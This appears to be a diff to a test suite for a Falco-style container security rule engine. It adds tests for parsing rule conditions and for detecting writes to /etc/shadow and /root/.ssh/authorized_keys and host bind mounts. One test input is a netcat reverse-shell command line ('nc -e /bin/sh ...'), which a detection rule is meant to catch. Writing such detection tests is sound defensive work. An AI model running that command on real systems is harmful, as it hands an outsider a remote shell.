@@ -29,6 +29,9 @@ describe('security rules: conditions', () => {
     // A multi-valued field passes when any value does.
     assert.equal(cond('aiops.process.peer_ports in (3333, 4444)')({ 'aiops.process.peer_ports': ['80', '3333'] }), true);
     assert.equal(cond('aiops.process.peer_ports in (3333)')({ 'aiops.process.peer_ports': ['80'] }), false);
+    // A list naming an earlier list stands for its items (Falco's layout).
+    const set = loadRules('- list: a\n  items: [sh]\n- list: b\n  items: [a, bash]\n- rule: R\n  desc: d\n  condition: process.executable.name in (b)\n  output: o\n  priority: INFO\n');
+    assert.equal(set.rules[0]!.match({ 'process.executable.name': 'sh' }), true);
   });
 
   it('refuses bad conditions with the place of the problem', () => {
@@ -41,6 +44,8 @@ describe('security rules: conditions', () => {
       ['file.path = "open', /unterminated string/],
       ['', /empty condition/],
       ['spawned_proc', /unknown macro or field/],
+      ['file.path in ()', /empty list/],
+      [`${'('.repeat(20000)}file.path = a${')'.repeat(20000)}`, /nests too deeply/],
     ] as const) {
       assert.throws(() => cond(src), (err: unknown) => err instanceof ConditionError && msg.test(err.message), src);
     }
@@ -98,11 +103,16 @@ describe('security engine', () => {
     assert.deepEqual(names(e, exec({ 'process.executable.name': 'apt-get' })), ['Launch Package Management Process in Container']);
     assert.deepEqual(names(e, exec({ 'process.executable.name': 'nc', 'process.command_line': 'nc -e /bin/sh 10.0.0.1 4444' })), ['Netcat Remote Code Execution in Container']);
     const fact = { 'event.name': 'aiops.security.alert', 'host.name': 'h1', 'process.pid': '11', 'container.id': 'abc' };
-    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'file.path': '/etc/shadow' }), ['Write below etc']);
-    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'file.path': '/usr/bin/ls' }), ['Write below binary dir']);
+    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '3', 'file.path': '/etc/shadow' }), ['Write below etc']);
+    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '-13', 'file.path': '/etc/shadow' }), [], 'a refused open wrote nothing');
+    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '3', 'file.path': '/etc/ld.so.cache', 'process.executable.name': 'dpkg' }), [], 'package managers write there by design');
+    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '3', 'file.path': '/usr/bin/ls' }), ['Write below binary dir']);
+    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'openat', 'aiops.syscall.result': '3', 'file.path': '/root/.ssh/authorized_keys' }), ['Write below monitored dir']);
     assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.target': '/mnt', 'aiops.mount.flags': '0' }), ['Mount Launched in Container']);
     assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.source': '/', 'aiops.mount.target': '/host', 'aiops.mount.flags': String(4096 | 16384) }), ['Mount Launched in Container'], 'a bind mount of the host');
     assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.target': '/', 'aiops.mount.flags': String(16384 | (1 << 18)) }), [], 'making mounts private (unshare, runtimes) is no mount');
+    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.target': '/host', 'aiops.mount.flags': String(4096 | (1 << 18)) }), ['Mount Launched in Container'], 'MS_BIND wins over a propagation flag, as in the kernel');
+    assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'mount', 'aiops.mount.target': '/mnt', 'aiops.mount.flags': String(0xc0ed0000) }), ['Mount Launched in Container'], 'the old magic number is no propagation flag');
     assert.deepEqual(names(e, { ...fact, 'aiops.syscall': 'dup2', 'aiops.dup.newfd': '0' }), ['Redirect STDOUT/STDIN to Network Connection in Container']);
     assert.deepEqual(names(e, { ...fact, 'aiops.security.kind': 'new_listen_port', 'network.local.port': '4444' }), ['New listening port']);
     // Host processes: container rules stay quiet.
